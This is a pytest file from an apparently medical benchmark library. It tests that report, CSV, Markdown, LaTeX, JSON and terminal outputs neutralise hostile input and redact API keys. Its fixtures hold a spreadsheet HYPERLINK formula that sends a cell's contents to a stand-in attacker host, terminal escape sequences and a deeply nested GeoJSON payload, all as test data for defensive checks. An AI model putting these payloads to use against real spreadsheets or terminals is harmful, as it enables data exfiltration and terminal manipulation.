"""Every output sink escapes for its format (issue 23): spreadsheet formulas in results.csv, newlines in Markdown
and LaTeX tables, escape sequences on the operator's terminal, strict JSON files, non-finite answers, a replay
chain that names itself, and a malformed BRACS GeoJSON that must skip one slide rather than end prepare."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest
from report_runs import score, write_run

from MedOpenClawLib.bench.cases import load_cases
from MedOpenClawLib.bench.episode import EpisodeOutcome
from MedOpenClawLib.bench.modules import get
from MedOpenClawLib.bench.outcomes import Tally
from MedOpenClawLib.bench.progress import Progress
from MedOpenClawLib.bench.report import write_report
from MedOpenClawLib.bench.tasks import EpisodeTask
from MedOpenClawLib.cli import main
from MedOpenClawLib.core.sinks import csv_cell, one_line, terminal_text, write_json

HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n| injected | row |\x1b]0;title\x07'


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> tuple[Path, dict]:
    """(folder, what write_report returned) of one report over the runs the sinks are tested with: a model run
    whose model name is a spreadsheet formula holding a Markdown row and terminal escapes, and two replay runs whose
    ``replay_from`` chain names itself (one report, not one per test: each drew the same figures, ~2 s of CPU)."""
    root = tmp_path_factory.mktemp("sinks") / "runs"
    write_run(root, "hostile", "ucsf-pdgm", "model", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)], model=HOSTILE_MODEL)
    run = write_run(root, "loop", "ucsf-pdgm", "replay", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)])
    identity = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**identity, "replay_from": str(run)}))
    other = write_run(root, "other", "ucsf-pdgm", "replay", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)])
    (other / "run.json").write_text(json.dumps({**identity, "replay_from": str(run)}))
    out = root.parent / "report"
    return out, write_report([root], out, evidence=False)


def test_report_tables_neutralise_formulas_and_fold_newlines(report):
    out, _ = report
    rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text())))
    for row in rows:
        assert not any(str(value).startswith(("=", "+", "@", "\t", "\r")) for value in row.values()), row
    assert any(row["model"].startswith("'=HYPERLINK") for row in rows)
    markdown = (out / "results.md").read_text()
    assert "\n| injected" not in markdown and "\x1b" not in markdown and "\x07" not in markdown
    table_lines = [line for line in markdown.splitlines() if line.startswith("|")]
    widths = {line.replace("\\|", "").count("|") for line in table_lines if "HYPERLINK" in line}
    assert widths and all("HYPERLINK" not in line or line.count("\\|") >= 2 for line in table_lines)
    latex = (out / "results.tex").read_text()
    assert "\x1b" not in latex and "\n| injected" not in latex and "\ninjected" not in latex
    json.loads((out / "results.json").read_text())  # strict, parseable


def test_sink_helpers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-2") == "'-2" and csv_cell("@SUM") == "'@SUM"
    assert csv_cell("\tx") == "'\tx" and csv_cell(-2.5) == -2.5 and csv_cell("ok") == "ok"
    assert one_line("a\r\nb\u2028c") == "a b c"
    assert terminal_text("\x1b]0;pwned\x07\x1b[2J\u202eabc\x9b") == "?]0;pwned??[2J?abc?"


def test_write_json_is_strict_and_atomic(tmp_path):
    target = tmp_path / "out" / "value.json"
    write_json(target, {"a": 1})
    with pytest.raises(ValueError):
        write_json(target, {"a": math.inf})
    assert json.loads(target.read_text()) == {"a": 1} and sorted(p.name for p in target.parent.iterdir()) == [
        "value.json"]


def test_answer_parsers_refuse_non_finite_numbers():
    parsed = get("ucsf-pdgm").read_answer("ANSWER: A\nKEY_SLICE_AXIAL_MM: 1e999\nRAS: [1e999, 0, 0]")
    text = json.dumps(parsed, allow_nan=False)  # would raise on Infinity
    assert "not a finite number" in text


def test_progress_line_strips_terminal_control_sequences():
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    stream = Terminal()
    progress = Progress(Tally(total=1), stream, max_rounds=20)
    from MedOpenClawLib.bench.cases import Case

    task = EpisodeTask(Case("ucsf-pdgm", "C-1", "data/C-1", []), 1)
    outcome = EpisodeOutcome("completed", None, rounds=1)
    progress.episode(task, outcome, "\x1b]0;owned\x07\x1b[2Jopen_case")
    progress.note("model said \x1b[31mred\n")
    # what is left once the line's own controls are taken out (redraw; the cursor hidden while drawing)
    written = stream.getvalue().replace("\r\x1b[2K", "").replace("\x1b[?25l", "").replace("\x1b[?25h", "")
    assert "\x1b" not in written and "\x07" not in written


def test_cli_errors_reach_the_terminal_without_escape_sequences(tmp_path, capsys):
    assert main(["bench", "score", "--module", "ucsf-pdgm", "--cases", str(tmp_path / "\x1b[2Jgone"),
                 "--responses", str(tmp_path / "r.jsonl")]) != 0
    assert "\x1b" not in capsys.readouterr().err


def test_a_replay_chain_that_names_itself_does_not_stop_bench_report(report):
    _, written = report
    assert written["runs"] == 3  # the looping replay runs and the hostile model run


def test_malformed_bracs_geojson_skips_that_slide_only(tmp_path):
    from PIL import Image

    from MedOpenClawLib.bench.modules.bracs.synthetic import deterministic_xlsx, geojson_export
    from MedOpenClawLib.bench.package import prepare
    from MedOpenClawLib.bench.synthetic.slide_layout import write_pyramid

    raw = tmp_path / "raw"
    folder = raw / "BRACS_WSI" / "val" / "Group_MT" / "Type_DCIS"
    image = Image.new("RGB", (300, 200), (230, 180, 200))
    square = [[10.0, 10.0], [100.0, 10.0], [100.0, 100.0], [10.0, 100.0]]
    exports = {"BRACS_1": json.dumps(geojson_export([("Ductal carcinoma in situ", square)])),
               "BRACS_2": json.dumps({"type": "FeatureCollection", "features": ["a string feature"]}),
               "BRACS_3": "[" * 100_000 + "]" * 100_000}
    for slide_id, text in exports.items():
        write_pyramid(folder / f"{slide_id}.svs", image, mpp=0.5, aperio=True, levels=1)
        (folder / f"{slide_id}.geojson").write_text(text)
    (raw / "BRACS.xlsx").write_bytes(deterministic_xlsx(
        [["WSI Filename", "Set", "WSI label"], *([f"{slide_id}.svs", "val", "DCIS"] for slide_id in exports)],
        "WSI_Information"))
    manifest = prepare(get("bracs"), raw, tmp_path / "cases")
    assert [case.case_id for case in load_cases(tmp_path / "cases")] == ["BRACS_1"]
    reasons = {item["case_id"]: item["reason"] for item in manifest["skipped"]}
    assert "malformed GeoJSON BRACS_2.geojson" in reasons["BRACS_2"]
    assert "malformed GeoJSON BRACS_3.geojson: RecursionError" in reasons["BRACS_3"]


def test_the_terminal_sink_redacts_every_key_the_environment_holds(tmp_path, capsys, monkeypatch):
    """Redaction at the sink, not per message: any provider's key variable (core knows no provider), URL
    credentials and secret parameters never reach the terminal, whatever message carries them; a short value of a
    secret-named variable (HF_TOKEN=true) is no key and ordinary words stay."""
    monkeypatch.setenv("GEMINI_API_KEY", "gm-0123456789abcdef")
    monkeypatch.setenv("HF_TOKEN", "true")
    folder = tmp_path / "gm-0123456789abcdef"
    assert main(["bench", "score", "--module", "ucsf-pdgm", "--cases", str(folder),
                 "--responses", str(tmp_path / "r.jsonl")]) != 0
    err = capsys.readouterr().err
    assert "gm-0123456789abcdef" not in err and "***" in err
    assert terminal_text("https://u:pw@host/v1?key=k1 is true") == "https://***@host/v1?key=*** is true"
    assert one_line("gm-0123456789abcdef") == "gm-0123456789abcdef"  # a cell of records redacted when written
